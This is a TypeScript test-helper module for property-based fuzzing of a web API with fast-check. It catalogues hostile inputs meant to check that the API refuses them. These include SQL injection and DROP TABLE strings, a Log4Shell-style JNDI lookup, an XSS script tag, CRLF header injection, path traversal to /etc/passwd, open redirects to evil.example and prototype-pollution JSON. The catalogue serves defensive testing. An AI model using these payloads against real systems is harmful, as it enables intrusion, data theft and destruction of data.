import fc from 'fast-check';

/**
 * The catalogue of hostile inputs. Each entry is here because it broke (or nearly broke) something real:
 * PostgreSQL rejects NUL in text and a lone surrogate's `\ud800` escape in jsonb (the audit log's data), URLs
 * resolve `..` and `%2e`, base64url cursors decode to JSON nobody checked, JavaScript dates accept years PostgreSQL
 * does not, and a JWT's key id is read before anything in it is verified.
 */

/**
 * Shrinking may swap a value for one of the first branch (the valid or harmless one): a counterexample keeps only
 * the hostile parts its failure needs.
 */
export const CROSS = { withCrossShrink: true } as const;

/** Inserted into otherwise valid strings so that values get past the first check and reach the database. */
export const hostileChars = [
  '\u0000',
  '\ud800',
  '\udfff',
  '\ufffe',
  '\u202e',
  '\u200b',
  '\r\n',
  '\n',
  '\t',
  '%00',
  '%',
  '/',
  '\\',
  "'",
  '"',
  '`',
  ';',
  '..',
  ' ',
] as const;

export const injections = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '"; select pg_sleep(5); --',
  '$1',
  '{"$ne":null}',
  '"}],"x":{"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack (Log4Shell-style lookup).
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'x\r\nSet-Cookie: hxb_session=stolen',
  'x\r\n\r\nHTTP/1.1 200 OK',
  '../../../../etc/passwd',
  '//evil.example/x',
  'https://evil.example/x',
  '/\\evil.example/x',
  '/%2F%2Fevil.example',
  '/\t/evil.example',
  'javascript:alert(1)',
  '..',
  '.',
  '%2e%2e',
  '%2F',
  'a/b',
  '%00',
  '%u0000',
  '\\u0000',
  '*',
  '%',
  '_',
  'null',
  'undefined',
  '__proto__',
  'constructor',
] as const;

export const numberLike = [
  '0',
  '-1',
  '-0',
  '1.5',
  '1e3',
  '1e309',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  ' 1',
  '1 ',
  '+1',
  '١',
  '9007199254740992',
  '9007199254740993',
  '2147483648',
  '-9223372036854775809',
  '',
] as const;

export const edgeNumbers = [
  0,
  -1,
  -0,
  1.5,
  2 ** 31,
  2 ** 31 - 1,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  2 ** 63,
  1e308,
  -1e308,
  Number.MIN_VALUE,
] as const;

/** Dates PostgreSQL, Date and RFC 3339 disagree about. */
export const edgeDates = [
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '275760-09-13T00:00:00.001Z',
  '9999-12-31T23:59:59.999Z',
  '10000-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '2024-02-30T00:00:00Z',
  '2024-01-01T24:00:00Z',
  '2024-01-01T23:59:60Z',
  '2024-01-01T00:00:00+14:00',
  '2024-01-01T00:00:00-23:59',
  '2024-01-01T00:00:00.123456789Z',
  '2024-01-01',
  '2024-01-01T00:00:00',
  'yesterday',
  'epoch',
  'infinity',
  '-infinity',
] as const;

const encode = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

/** Cursors that decode fine but carry the wrong content, plus a few that do not decode at all. */
export const cursorPayloads: unknown[] = [
  ['x', 'y'],
  [],
  {},
  null,
  'x',
  42,
  [1, 2],
  [null, null],
  [true],
  ['x'],
  ['x', 'y', 'z'],
  [['a'], { b: 1 }],
  ['0000-01-01T00:00:00Z', 'org-aaaaaaaaaaaaaaaaaaaa'],
  ['2024-01-01T00:00:00.000Z', '\u0000'],
  ['2024-01-01T00:00:00.000Z', 'x'.repeat(10_000)],
  ['2024-02-30T00:00:00Z', 'usr-aaaaaaaaaaaaaaaaaaaa'],
  [1e308, -1],
  ['\ud800', '\ud800'],
];

export const cursors = [
  ...cursorPayloads.map(encode),
  'not-base64url!',
  '====',
  Buffer.from('{"unterminated').toString('base64url'),
  Buffer.from([0xff, 0xfe, 0x00]).toString('base64url'),
  'A'.repeat(513),
];

/** Already percent-encoded text for URLs: what a browser would never produce but a client can send. */
export const rawEncodings = [
  '%00',
  '%',
  '%zz',
  '%ED%A0%80',
  '%C0%AF',
  '%FF',
  '%2F',
  '%2e%2e',
  '..',
  '.',
  '%0D%0A',
  '+',
  '%20',
  '',
] as const;

export type Raw = { raw: string };
export const raw = (s: string): Raw => ({ raw: s });
export const isRaw = (v: unknown): v is Raw =>
  typeof v === 'object' && v !== null && 'raw' in v && Object.keys(v).length === 1;

/** A valid string with a hostile piece put at its start, in its middle or at its end. */
export function spliced(
  valid: fc.Arbitrary<string>,
  pieces: readonly string[] = [...hostileChars, ...injections],
): fc.Arbitrary<string> {
  return fc
    .tuple(valid, fc.constantFrom(...pieces), fc.constantFrom('end', 'start', 'middle'))
    .map(([v, bad, where]) => splice(v, bad, where));
}

export function splice(v: string, bad: string, where: 'start' | 'middle' | 'end' = 'end'): string {
  if (where === 'start') return bad + v;
  if (where === 'end') return v + bad;
  const i = Math.floor(v.length / 2);
  return v.slice(0, i) + bad + v.slice(i);
}

/** Every string leaf of a JSON value with a hostile piece spliced in: NUL inside `rules[0].verbs[0]`. */
export function spliceDeep(v: unknown, bad: string): unknown {
  if (typeof v === 'string') return splice(v, bad, 'middle');
  if (Array.isArray(v)) return v.length ? v.map((x) => spliceDeep(x, bad)) : [bad];
  if (v && typeof v === 'object')
    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, spliceDeep(x, bad)]));
  return bad;
}

/** Strings far past any limit: the body limit, a column's length, a regex's patience. */
export const hugeStrings = (maxLength: number | undefined) =>
  fc
    .tuple(
      fc.constantFrom((maxLength ?? 64) + 1, 10_000, 100_000, (1 << 20) + 1),
      fc.constantFrom('a', '\u0000', 'é'),
    )
    .map(([n, unit]) => unit.repeat(n));

/** Every code unit, including lone surrogates and controls: what a careless client or a fuzzer sends. */
export const anyCodeUnits = fc.string({
  unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
  maxLength: 12,
});

/** JSON values of a type nobody asked for. */
export const wrongTypes: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.constantFrom(...edgeNumbers),
  fc.constant([]),
  fc.constant({}),
  fc.constant(['x']),
  fc.constant({ $ne: null }),
  fc.constant(JSON.parse('{"__proto__":{"admin":true}}')),
  fc.constant([[[[[[[[[[]]]]]]]]]]),
);

/** Whole request bodies that are not what a JSON route reads. */
export const hostileJsonTexts = [
  'null',
  '[]',
  '"x"',
  '0',
  'true',
  '{',
  '{"a":',
  '\u0000',
  '\ufeff{}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
  `{"x":"${'a'.repeat((1 << 20) + 1)}"}`,
  '{"a":1,"a":2}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '1e999',
] as const;

export const hostileFormTexts = [
  '%',
  '%00=%00',
  'a=%ED%A0%80',
  '&&&',
  '=',
  'a=1&a=2&a=3',
  '__proto__[admin]=true',
  `a=${'b'.repeat((1 << 20) + 1)}`,
] as const;

export const hostileContentTypes = [
  undefined,
  'text/plain',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'application/xml',
  'application/json, text/plain',
  '*/*',
] as const;

/** A generated value and whether the API must refuse it. */
export type Tagged<T> = { hostile: boolean; value: T };
